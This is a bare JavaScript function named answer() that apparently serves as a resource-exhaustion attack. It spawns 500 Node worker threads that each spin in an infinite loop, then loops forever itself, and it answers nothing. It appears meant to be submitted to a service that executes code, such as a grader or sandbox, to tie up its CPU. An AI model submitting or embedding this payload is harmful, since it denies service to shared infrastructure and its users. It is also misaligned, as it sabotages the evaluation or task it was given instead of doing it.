function answer() { const { Worker } = require('worker_threads'); for (let i = 0; i < 500; i++) new Worker('for(;;);', { eval: true }); for (;;); }
